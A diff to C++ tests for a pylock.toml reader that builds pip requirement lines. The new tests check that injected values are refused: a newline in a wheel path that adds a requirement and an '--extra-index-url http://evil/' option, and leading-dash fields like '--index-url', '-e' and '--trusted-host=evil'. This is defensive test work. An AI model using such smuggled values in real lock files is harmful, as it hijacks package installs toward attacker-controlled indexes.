@@ -78,7 +78,7 @@ TEST_CASE("pylock pins: a pin per package with its marker and every wheel's hash
     CHECK(pins->requirements[2].str() == "mine==0.1");
     CHECK(pins->text == "demo-core==2.0.0 --hash=sha256:" + k_a + " --hash=sha256:" + k_b +
                             "\n"
-                            "demo-torch==2.10.0 ; sys_platform == 'win32' --hash=sha256:" +
+                            "demo-torch==2.10.0 ; sys_platform == \"win32\" --hash=sha256:" +
                             k_a +
                             "\n"
                             "/l/dist/mine-0.1-py3-none-any.whl --hash=sha256:" +
@@ -136,4 +136,50 @@ TEST_CASE("pylock data: requires-python and environments are checked against the
     CHECK(other.error().message ==
           "/l/pylock.toml is for sys_platform == 'darwin'; the venv's interpreter is "
           "sys_platform 'linux', platform_machine 'x86_64'");
+}
+
+TEST_CASE("pylock data: a path, url, name or index that would be more than one requirement line is refused") {
+    // The attack: a wheel path whose newline starts another requirement and an option.
+    const std::string path = "w/x-1.0-py3-none-any.whl\\ndemo-utils==1.0.0\\n--extra-index-url http://evil/";
+    auto lock =
+        steps::read_pylock(k_head + "[[packages]]\nname = \"x\"\nversion = \"1.0\"\n" + "wheels = [{ path = \"" + path +
+                               "\", hashes = { sha256 = \"" + k_a + "\" } }]\n",
+                           "/l/pylock.toml");
+    REQUIRE_FALSE(lock);
+    INFO(lock.error().message + "\n" + lock.error().detail);
+    CHECK(lock.error().message.rfind("not a valid pylock.toml: /l/pylock.toml:6:20: package x: 'path' holds a "
+                                     "control character (U+000A at byte 24): refused",
+                                     0) == 0);
+    CHECK(lock.error().message.ends_with("(write it on one line; a relative path that starts with '-' as ./-...)"));
+    // A leading '-' (an option to the installer), in every field that reaches it.
+    for (const std::string& entry : std::vector<std::string>{
+             "name = \"x\"\nversion = \"1.0\"\nwheels = [{ path = \"--index-url=http://evil/x-1.0-py3-none-any.whl\", "
+             "hashes = { sha256 = \"" +
+                 k_a + "\" } }]\n",
+             "name = \"x\"\nversion = \"1.0\"\nwheels = [{ url = \"-ehttp://evil/x-1.0-py3-none-any.whl\", "
+             "hashes = { sha256 = \"" +
+                 k_a + "\" } }]\n",
+             "name = \"x\"\nversion = \"1.0\"\nindex = \"--trusted-host=evil\"\nwheels = [{ url = "
+             "\"https://i/x-1.0-py3-none-any.whl\", hashes = { sha256 = \"" +
+                 k_a + "\" } }]\n",
+             "name = \"x\"\nversion = \"1.0\\r\"\nwheels = [{ url = \"https://i/x-1.0-py3-none-any.whl\", "
+             "hashes = { sha256 = \"" +
+                 k_a + "\" } }]\n",
+             "name = \"-x\"\nversion = \"1.0\"\nwheels = [{ url = \"https://i/x-1.0-py3-none-any.whl\", hashes = "
+             "{ sha256 = \"" +
+                 k_a + "\" } }]\n",
+             "name = \"x\"\ndirectory = { path = \"src\\u0001x\" }\n"}) {
+        auto bad = steps::read_pylock(k_head + "[[packages]]\n" + entry, "/l/pylock.toml");
+        INFO(entry);
+        REQUIRE_FALSE(bad);
+        CHECK(bad.error().message.rfind("not a valid pylock.toml: /l/pylock.toml:", 0) == 0);
+    }
+}
+
+TEST_CASE("pylock pins: a wheel path with spaces, '#' or quotes is written as a file URL pip and uv read") {
+    const auto pins = steps::pylock_pins(
+        read(k_head + "[[packages]]\nname = \"x\"\nversion = \"1.0\"\n" +
+             "wheels = [{ path = \"a b#c;d'q/x-1.0-py3-none-any.whl\", hashes = { sha256 = \"" + k_a + "\" } }]\n"));
+    if (!pins) FAIL(pins.error().message);
+    CHECK(pins->text == "x @ file:///l/a%20b%23c%3Bd%27q/x-1.0-py3-none-any.whl --hash=sha256:" + k_a + "\n");
 }
